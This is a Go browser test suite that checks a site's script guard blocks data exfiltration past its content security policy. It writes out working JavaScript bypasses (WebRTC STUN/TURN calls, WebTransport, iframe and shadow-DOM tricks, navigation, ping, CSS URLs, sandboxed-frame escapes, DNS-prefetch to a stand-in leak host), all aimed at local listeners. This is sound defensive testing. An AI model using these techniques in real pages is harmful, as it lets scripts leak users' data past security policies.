package pagetest

import (
	"fmt"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"cloister/cmd/chromium"
)

// ears listen on a UDP and a TCP port of their own for each way past the policy.
type ears struct {
	t     *testing.T
	mu    sync.Mutex
	heard map[string]int
}

// open returns the ports on which a way is listened for.
func (e *ears) open(way string) (udp, tcp int) {
	e.t.Helper()
	packets, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		e.t.Fatal(err)
	}
	connections, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { packets.Close(); connections.Close() })
	go func() {
		for buffer := make([]byte, 2000); ; {
			if _, _, err := packets.ReadFrom(buffer); err != nil {
				return
			}
			e.note(way + " by UDP")
		}
	}()
	go func() {
		for {
			connection, err := connections.Accept()
			if err != nil {
				return
			}
			connection.Close()
			e.note(way + " by TCP")
		}
	}()
	return packets.LocalAddr().(*net.UDPAddr).Port, connections.Addr().(*net.TCPAddr).Port
}

func (e *ears) note(way string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard[way]++
}

func (e *ears) list() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Sorted(maps.Keys(e.heard))
}

// call makes a peer connection of a realm ask a STUN server by UDP and a TURN server by TCP.
const call = `const call = async (realm) => {
	const c = new realm.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }, { urls: "turn:127.0.0.1:" + tcp + "?transport=tcp", username: "u", credential: "c" }] });
	c.createDataChannel("secret");
	await c.setLocalDescription();
};`

// pastPolicy are ways out of which a content security policy has nothing to say, as bodies of functions of (udp, tcp).
var pastPolicy = map[string]string{
	"peer":      call + `await call(globalThis)`,
	"prototype": call + `await call(Object.getPrototypeOf(globalThis))`,
	"transport": `await new WebTransport("https://127.0.0.1:" + udp).ready`,
	"nested":    `new Worker(URL.createObjectURL(new Blob(["try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:" + udp + "' }] }).setLocalDescription() } catch {}"])))`,
}

// pastPolicyOfPage need a document.
var pastPolicyOfPage = map[string]string{
	"frame":    call + `const f = document.createElement("iframe"); document.body.append(f); await call(f.contentWindow)`,
	"in HTML":  call + `const d = document.createElement("div"); d.innerHTML = "<p><iframe name=inner></iframe>"; document.body.append(d); await call(frames.inner)`,
	"object":   call + `const f = document.createElement("object"); f.data = "about:blank"; document.body.append(f); await call(window[0])`,
	"shadow":   call + `const d = document.createElement("div"); document.body.append(d); d.attachShadow({ mode: "closed" }).innerHTML = "<iframe></iframe>"; await call(window[0])`,
	"declared": call + `const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe("<p><template shadowrootmode=closed><iframe></iframe></template></p>"); await call(window[0])`,
	"written":  call + `document.open(); document.write("<p><template shadowrootmode=closed><iframe></iframe></template></p>"); await call(window[0])`,
	"window":   call + `await call(open("about:blank"))`,
	"waiting": call + `const f = document.createElement("iframe"); document.body.append(f); call(f.contentWindow);
		for (const end = performance.now() + 1000; performance.now() < end; );`, // the observer waits, the network need not
	"location": `location = "http://127.0.0.1:" + tcp`,
	"assign":   `location.assign("http://127.0.0.1:" + tcp)`,
	"link":     `const a = document.createElement("a"); a.href = "http://127.0.0.1:" + tcp; a.click()`,
	"download": `const a = document.createElement("a"); a.download = ""; a.href = "http://127.0.0.1:" + tcp; a.click()`,
	"refresh":  `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://127.0.0.1:" + tcp; document.head.append(m)`,
	"ping":     `const a = document.createElement("a"); a.ping = "http://127.0.0.1:" + tcp; a.href = "#x"; a.click()`,
	"payment":  `await new PaymentRequest([{ supportedMethods: "http://127.0.0.1:" + tcp }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
	"paint":    `document.body.style.backgroundImage = "url(http://127.0.0.1:" + tcp + ")"`,
	"filter":   `document.body.style.filter = "url(http://127.0.0.1:" + tcp + "#x)"; document.body.offsetWidth`,
}

// pastRoom are ways that begin with the one frame that the guard lets be, in which a person's code runs.
func pastRoom(t *testing.T) map[string]string {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(dist, "assets/guard.*.js"))
	if len(files) == 0 {
		t.Skip("SKIPPED: the site is not built; run make build")
	}
	guard, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	_, text, found := strings.Cut(string(guard), "<!doctype html>")
	text, _, ends := strings.Cut(text, `<\/script>`)
	if !found || !ends {
		t.Fatal("the guard holds no frame")
	}
	room := call + `const f = document.createElement("iframe"); f.hidden = true; f.setAttribute("sandbox", "allow-scripts"); f.setAttribute("srcdoc", ` + quote("<!doctype html>"+text+"</script>") + `);
		document.body.append(f); await new Promise((go) => addEventListener("message", go, { once: true }));
		const there = () => { if (!f.isConnected) throw new Error("it was taken away"); }; there();
		const later = () => new Promise((go) => setTimeout(go, 200));`
	return map[string]string{
		"room":           room + `await call(f.contentWindow)`,
		"room, opened":   room + `f.removeAttribute("sandbox"); f.srcdoc = "<p>"; await later(); await call(f.contentWindow)`,
		"room, emptied":  room + `f.srcdoc = ""; f.removeAttribute("sandbox"); f.contentWindow.location = "about:blank"; await later(); await call(f.contentWindow)`,
		"room, sent off": room + `f.contentWindow.location = "http://127.0.0.1:" + tcp; await later()`,
		"room, refilled": room + `f.srcdoc = "<meta http-equiv=refresh content='0;url=http://127.0.0.1:" + tcp + "'>"; await later()`,
		"room, of code":  room + `f.contentWindow.postMessage("fetch('http://127.0.0.1:" + tcp + "').catch(() => {}); new WebSocket('ws://127.0.0.1:" + tcp + "'); importScripts('http://127.0.0.1:" + tcp + "')", "*", [new MessageChannel().port1]); await later()`,
		"room, of text":  room + `f.contentWindow.postMessage("import('http://127.0.0.1:" + tcp + "').catch(() => {}); new WebTransport('https://127.0.0.1:" + udp + "')", "*", [new MessageChannel().port1]); await later()`,
	}
}

// script tries ways one after the other, and tells the site when it is through.
func (s *site) script(e *ears, who string, ways ...map[string]string) string {
	var b strings.Builder
	b.WriteString("(async () => {\n")
	for _, of := range ways {
		for _, name := range slices.Sorted(maps.Keys(of)) {
			udp, tcp := e.open(who + ": " + name)
			fmt.Fprintf(&b, "try { await Promise.race([(async (udp, tcp) => { %s })(%d, %d), new Promise((go) => setTimeout(go, 500))]); } catch {}\n", of[name], udp, tcp)
		}
	}
	fmt.Fprintf(&b, "await new Promise((go) => setTimeout(go, 1500)); await fetch(%s).catch(() => {});\nreturn true;\n})()", quote(s.page("ran/"+who)))
	return b.String()
}

// tryPast goes every way from the page, its trainer and its compute workers, and waits until all have tried.
func (s *site) tryPast(t *testing.T, ofPage map[string]string, change func(path string, body []byte) []byte) (*tab, *ears) {
	t.Helper()
	e := &ears{t: t, heard: map[string]int{}}
	trainer, compute := s.script(e, "trainer", pastPolicy), s.script(e, "compute", pastPolicy)
	s.change = func(path string, body []byte) []byte {
		if strings.HasPrefix(path, "assets/trainer.") && strings.HasSuffix(path, ".js") {
			body = append(body, "\n"+trainer...)
		}
		if strings.HasPrefix(path, "assets/compute.") {
			body = append(body, "\n"+compute...)
		}
		return change(path, body)
	}
	p := openWhole(t, s.page("#data=digits&model=logistic&epochs=20&workers=1"))
	p.start()
	if err := p.Await(s.script(e, "page", pastPolicy, ofPage), nil); err != nil {
		t.Fatal(err)
	}
	for _, who := range []string{"page", "trainer", "compute"} {
		for deadline := time.Now().Add(patience); ; time.Sleep(50 * time.Millisecond) {
			if _, asked := s.requests(0); slices.Contains(asked, "ran/"+who) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s did not get through its ways", who)
			}
		}
	}
	return p, e
}

// What is taken away before any other script runs closes what the policy leaves open, on a host without headers.
func TestNothingGoesPastThePolicy(t *testing.T) {
	t.Parallel()
	s := serve(t)
	ways := pastRoom(t)
	maps.Copy(ways, pastPolicyOfPage)
	_, e := s.tryPast(t, ways, func(_ string, body []byte) []byte { return body })
	if reached := e.list(); len(reached) > 0 {
		t.Errorf("reached the outside: %v", reached)
	}
}

// On the pages where the frame is let be, it is no way out either, and no request goes. What stays open there is what does everywhere: where it is sent off to,
// the browser connects, before the policy refuses.
func TestTheRoomIsNoWayOut(t *testing.T) {
	t.Parallel()
	s, e := serve(t), &ears{t: t, heard: map[string]int{}}
	p := openWhole(t, s.page("learn-epsilon.html"))
	ways := pastRoom(t)
	own := ways["room, sent off"]
	ways["room, sent to its own site"] = strings.ReplaceAll(own, `"http://127.0.0.1:" + tcp`, quote(s.page("ran/leak")))
	for _, page := range []string{"mechanism.html", "learn-mechanism.html"} {
		p.run(chromedp.Navigate(s.page(page)))
		if err := p.Await(s.script(e, page, ways), nil); err != nil {
			t.Fatal(err)
		}
	}
	reached := slices.DeleteFunc(e.list(), func(way string) bool { return strings.HasSuffix(way, ": room, sent off by TCP") })
	if _, asked := s.requests(0); len(reached) > 0 || slices.Contains(asked, "ran/leak") {
		t.Errorf("reached the outside: %v; asked for: %v", reached, asked)
	}
}

// Without the guard, under the same policy, they do get out: the test above can fail.
func TestWaysLeadPastThePolicyWithoutGuard(t *testing.T) {
	long(t)
	t.Parallel()
	s := serve(t)
	ways := map[string]string{}
	for _, way := range []string{"frame", "in HTML", "shadow", "window"} { // the others are of the same kind
		ways[way] = pastPolicyOfPage[way]
	}
	p, e := s.tryPast(t, ways, func(path string, body []byte) []byte {
		if strings.HasPrefix(path, "assets/guard.") {
			return []byte("// nothing")
		}
		return body
	})
	chromedp.ListenTarget(p.Context, func(event any) { // the page asks whoever leaves during a run
		if _, asks := event.(*page.EventJavascriptDialogOpening); asks {
			go chromedp.Run(p.Context, page.HandleJavaScriptDialog(true))
		}
	})
	udp, tcp := e.open("page: location") // last: it takes the page away
	p.Await(fmt.Sprintf("((udp, tcp) => { %s })(%d, %d)", pastPolicyOfPage["location"], udp, tcp), nil)
	want := []string{"page: peer by UDP", "page: peer by TCP", "page: frame by UDP", "page: in HTML by UDP", "page: shadow by TCP", "page: window by UDP", "page: location by TCP"}
	missing := func(way string) bool { return !slices.Contains(e.list(), way) }
	for deadline := time.Now().Add(10 * time.Second); slices.ContainsFunc(want, missing) && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
	}
	if lost := slices.DeleteFunc(want, func(way string) bool { return !missing(way) }); len(lost) > 0 {
		t.Errorf("%v did not reach the outside; only %v did", lost, e.list())
	}
}

// What stays open, and is therefore said where the claim is made: a script of the page (a worker has no document) can name a
// host, which the browser looks up or connects to. If this fails because nothing is heard, say less in RATIONALE.
func TestHintsStayOpen(t *testing.T) {
	t.Parallel()
	s, e := serve(t), &ears{t: t, heard: map[string]int{}}
	log := filepath.Join(t.TempDir(), "net.json")
	p := openWith(t, s.page("accountant.html"), chromium.Options{Width: 1280, Height: 900, Flags: map[string]string{"log-net-log": log}, Whole: true})
	p.ready("accountant.html")
	_, tcp := e.open("preconnect")
	eval[any](p, fmt.Sprintf(`(() => {
		const hint = (rel, href) => document.head.append(Object.assign(document.createElement("link"), { rel, href }));
		hint("preconnect", "http://127.0.0.1:%d");
		hint("dns-prefetch", "http://secret.leak.test");
	})()`, tcp))
	for deadline := time.Now().Add(10 * time.Second); len(e.list()) == 0 && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
	}
	time.Sleep(time.Second)
	p.Close()
	names, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	if got := e.list(); len(got) != 1 || !strings.Contains(string(names), "secret.leak.test") {
		t.Errorf("preconnect: %v; a host name was looked up: %v", got, strings.Contains(string(names), "secret.leak.test"))
	}
}
